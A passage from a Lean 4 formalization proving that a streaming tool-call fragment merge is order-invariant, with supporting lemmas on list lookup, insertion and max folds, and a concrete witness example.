        exact ih

theorem mapLookup_mapInsert (m : List (Nat × (String × String × String))) (k i : Nat)
    (v : String × String × String) :
    mapLookup (mapInsert m k v) i = if i = k then some v else mapLookup m i := by
  by_cases hik : i = k
  · subst hik
    simp only [mapLookup, mapInsert]
    rw [List.find?_cons_of_pos _ (by simp)]
    simp
  · simp only [mapLookup, mapInsert, if_neg hik]
    rw [List.find?_cons_of_neg _ (by simp only [decide_eq_true_eq]; exact fun h => hik h.symm),
      find?_filter_ne hik]

theorem lookup_foldl_apply :
    ∀ (l : List ChunkToolCall) (m : List (Nat × (String × String × String))) (i : Nat),
      mapLookup (l.foldl applyChunkToolCall m) i =
        entryFold (l.filter (fun tc => fragKey tc = i)) (mapLookup m i) := by
  intro l
  induction l with
  | nil => intro m i; rfl
  | cons tc l ih =>
    intro m i
    rw [List.foldl_cons, ih, List.filter_cons]
    by_cases hk : fragKey tc = i
    · rw [if_pos (by simp [hk])]
      have hstep : mapLookup (applyChunkToolCall m tc) i = entryStep (mapLookup m i) tc := by
        simp only [applyChunkToolCall]
        rw [mapLookup_mapInsert, if_pos hk.symm, hk]
        rfl
      rw [hstep]
      rfl
    · rw [if_neg (by simp [hk])]
      have hstep : mapLookup (applyChunkToolCall m tc) i = mapLookup m i := by
        simp only [applyChunkToolCall]
        rw [mapLookup_mapInsert, if_neg (fun h => hk h.symm)]
      rw [hstep]

theorem lookup_accumulate (l : List ChunkToolCall) (i : Nat) :
    mapLookup (accumulateToolCalls l) i =
      entryFold (l.filter (fun tc => fragKey tc = i)) none :=
  lookup_foldl_apply l [] i

theorem mem_keys_iff_lookup_isSome (i : Nat) :
    ∀ (m : List (Nat × (String × String × String))),
      i ∈ m.map (fun p => p.1) ↔ (mapLookup m i).isSome = true := by
  intro m
  induction m with
  | nil => simp [mapLookup]
  | cons a m ih =>
    simp only [mapLookup] at ih ⊢
    by_cases hai : a.1 = i
    · rw [List.find?_cons_of_pos _ (by simp [hai])]
      simp [hai]
    · rw [List.find?_cons_of_neg _ (by simp [hai])]
      rw [List.map_cons, List.mem_cons, ← ih]
      constructor
      · rintro (h | h)
        · exact absurd h.symm hai
        · exact h
      · exact Or.inr

theorem foldl_max_init_le : ∀ (l : List Nat) (a : Nat), a ≤ l.foldl max a := by
  intro l
  induction l with
  | nil => intro a; exact Nat.le_refl a
  | cons x l ih =>
    intro a
    exact le_trans (Nat.le_max_left a x) (ih (max a x))

theorem le_foldl_max : ∀ (l : List Nat) (a x : Nat), x ∈ l → x ≤ l.foldl max a := by
  intro l
  induction l with
  | nil => intro a x h; simp at h
  | cons y l ih =>
    intro a x h
    rcases List.mem_cons.mp h with rfl | hm
    · exact le_trans (Nat.le_max_right a x) (foldl_max_init_le l (max a x))
    · exact ih (max a y) x hm

theorem foldl_max_mem : ∀ (l : List Nat) (a : Nat),
    l.foldl max a = a ∨ l.foldl max a ∈ l := by
  intro l
  induction l with
  | nil => intro a; exact Or.inl rfl
  | cons x l ih =>
    intro a
    rcases ih (max a x) with h | h
    · rcases max_choice a x with h2 | h2
      · exact Or.inl (by rw [List.foldl_cons, h, h2])
      · exact Or.inr (by rw [List.foldl_cons, h, h2]; exact List.mem_cons_self x l)
    · exact Or.inr (List.mem_cons_of_mem x (by rw [List.foldl_cons]; exact h))

theorem foldl_max_keys_eq {m1 m2 : List (Nat × (String × String × String))}
    (h : ∀ i, mapLookup m1 i = mapLookup m2 i) :
    (m1.map (fun p => p.1)).foldl max 0 = (m2.map (fun p => p.1)).foldl max 0 := by
  have hmem : ∀ i, i ∈ m1.map (fun p => p.1) ↔ i ∈ m2.map (fun p => p.1) := by
    intro i
    rw [mem_keys_iff_lookup_isSome, mem_keys_iff_lookup_isSome, h i]
  apply Nat.le_antisymm
  · rcases foldl_max_mem (m1.map (fun p => p.1)) 0 with h1 | h1
    · rw [h1]; exact Nat.zero_le _
    · exact le_foldl_max _ 0 _ ((hmem _).mp h1)
  · rcases foldl_max_mem (m2.map (fun p => p.1)) 0 with h1 | h1
    · rw [h1]; exact Nat.zero_le _
    · exact le_foldl_max _ 0 _ ((hmem _).mpr h1)

theorem collectSorted_eq {m1 m2 : List (Nat × (String × String × String))}
    (h : ∀ i, mapLookup m1 i = mapLookup m2 i) :
    collectSorted m1 = collectSorted m2 := by
  simp only [collectSorted]
  rw [foldl_max_keys_eq h]
  congr 1
  funext i
  rw [h i]

theorem foldl_apply_ne_nil :
    ∀ (l : List ChunkToolCall) (m : List (Nat × (String × String × String))),
      m ≠ [] → l.foldl applyChunkToolCall m ≠ [] := by
  intro l
  induction l with
  | nil => intro m h; exact h
  | cons tc l ih =>
    intro m _
    exact ih _ (by simp [applyChunkToolCall, mapInsert])

theorem accumulate_ne_nil {l : List ChunkToolCall} (h : l ≠ []) :
    accumulateToolCalls l ≠ [] := by
  cases l with
  | nil => exact absurd rfl h
  | cons tc l =>
    exact foldl_apply_ne_nil l _ (by simp [applyChunkToolCall, mapInsert])

theorem eq_nil_of_filter_keys {l1 l2 : List ChunkToolCall}
    (h : ∀ i, l1.filter (fun tc => fragKey tc = i) = l2.filter (fun tc => fragKey tc = i))
    (h1 : l1 = []) : l2 = [] := by
  cases l2 with
  | nil => rfl
  | cons x t =>
    have hx := h (fragKey x)
    rw [h1, List.filter_nil, List.filter_cons, if_pos (by simp)] at hx
    exact absurd hx.symm (List.cons_ne_nil _ _)

theorem string_append_empty (s : String) : s ++ "" = s := by
  cases s with
  | mk data =>
    show String.mk (data ++ []) = String.mk data
    rw [List.append_nil]

theorem updateEntry_third (e : String × String × String) (tc : ChunkToolCall) :
    (updateEntry e tc).2.2 = e.2.2 ++ ((tc.function.bind ChunkFunction.arguments).getD "") := by
  rcases tc with ⟨idx, oid, ofn⟩
  rcases ofn with _ | ⟨onm, oam⟩
  · cases oid <;> simp [updateEntry, Option.bind, string_append_empty]
  · cases oid <;> cases onm <;> cases oam <;>
      simp [updateEntry, Option.bind, string_append_empty]

theorem entryFold_args : ∀ (l : List ChunkToolCall) (e : String × String × String),
    ((entryFold l (some e)).getD emptyEntry).2.2 = argsConcatFrom l e.2.2 := by
  intro l
  induction l with
  | nil => intro e; rfl
  | cons tc l ih =>
    intro e
    have hstep : entryFold (tc :: l) (some e) = entryFold l (some (updateEntry e tc)) := rfl
    rw [hstep, ih]
    have hfrom : argsConcatFrom (tc :: l) e.2.2 =
        argsConcatFrom l (e.2.2 ++ ((tc.function.bind ChunkFunction.arguments).getD "")) := rfl
    rw [hfrom, updateEntry_third]

theorem entryFold_args_none : ∀ (l : List ChunkToolCall),
    ((entryFold l none).getD emptyEntry).2.2 = argsConcatFrom l "" := by
  intro l
  cases l with
  | nil => rfl
  | cons tc l =>
    have h1 : entryFold (tc :: l) none = entryFold l (some (updateEntry emptyEntry tc)) := rfl
    rw [h1, entryFold_args]
    have h2 : argsConcatFrom (tc :: l) "" =
        argsConcatFrom l ("" ++ ((tc.function.bind ChunkFunction.arguments).getD "")) := rfl
    rw [h2]
    have h3 : (updateEntry emptyEntry tc).2.2 =
        "" ++ ((tc.function.bind ChunkFunction.arguments).getD "") := updateEntry_third _ _
    rw [h3]

/-- C5: the streaming tool-call merge is order-invariant over
interleavings that preserve each call's own intra-call fragment
sequence: the final merged list depends only on the per-index fragment
subsequences (conjunct 1); no fragments yield no calls (conjunct 2); the
entry of each index is the arrival-order fold of exactly that index's
fragments (conjunct 3), with the argument buffers concatenated in
arrival order (conjunct 4); the final list is emitted by scanning
indices in increasing order (`collectSorted`). -/
theorem c5_merge_order_invariance :
    ∀ (l1 l2 : List ChunkToolCall),
      (∀ i, l1.filter (fun tc => fragKey tc = i) = l2.filter (fun tc => fragKey tc = i)) →
      mergedToolCalls l1 = mergedToolCalls l2 ∧
      mergedToolCalls [] = none ∧
      (∀ i, mapLookup (accumulateToolCalls l1) i =
        entryFold (l1.filter (fun tc => fragKey tc = i)) none) ∧
      (∀ i, ((mapLookup (accumulateToolCalls l1) i).getD emptyEntry).2.2 =
        argsConcatFrom (l1.filter (fun tc => fragKey tc = i)) "") := by
  intro l1 l2 h
  have hlook : ∀ i, mapLookup (accumulateToolCalls l1) i =
      mapLookup (accumulateToolCalls l2) i := by
    intro i
    rw [lookup_accumulate, lookup_accumulate, h i]
  refine ⟨?_, rfl, fun i => lookup_accumulate l1 i,
    fun i => by rw [lookup_accumulate, entryFold_args_none]⟩
  by_cases h1 : l1 = []
  · have h2 : l2 = [] := eq_nil_of_filter_keys h h1
    rw [h1, h2]
  · have h2 : l2 ≠ [] := fun hh => h1 (eq_nil_of_filter_keys (fun i => (h i).symm) hh)
    have hne1 : ¬((accumulateToolCalls l1).isEmpty = true) := by
      simpa [List.isEmpty_iff] using accumulate_ne_nil h1
    have hne2 : ¬((accumulateToolCalls l2).isEmpty = true) := by
      simpa [List.isEmpty_iff] using accumulate_ne_nil h2
    simp only [mergedToolCalls, if_neg hne1, if_neg hne2]
    rw [collectSorted_eq hlook]

/-- Witness for `c5_merge_order_invariance`: two interleavings of three
fragments (two of index 0, one of index 1) merge identically. -/
theorem c5_merge_order_invariance_witness :
    mergedToolCalls [fragA, fragB, fragC] = mergedToolCalls [fragA, fragC, fragB] ∧
    mergedToolCalls [] = none ∧
    mapLookup (accumulateToolCalls [fragA, fragB, fragC]) 0 =
      entryFold (List.filter (fun tc => fragKey tc = 0) [fragA, fragB, fragC]) none ∧
    ((mapLookup (accumulateToolCalls [fragA, fragB, fragC]) 0).getD emptyEntry).2.2 =
      argsConcatFrom (List.filter (fun tc => fragKey tc = 0) [fragA, fragB, fragC]) "" := by
  have h := c5_merge_order_invariance [fragA, fragB, fragC] [fragA, fragC, fragB] (by
    intro i
    match i with
    | 0 => decide
    | 1 => decide
    | n + 2 =>
      have hz : ¬((0 : Nat) = n + 2) := by omega
      have ho : ¬((1 : Nat) = n + 2) := by omega
      simp [List.filter, fragA, fragB, fragC, fragKey, hz, ho])
  exact ⟨h.1, h.2.1, h.2.2.1 0, h.2.2.2 0⟩

end Cowork
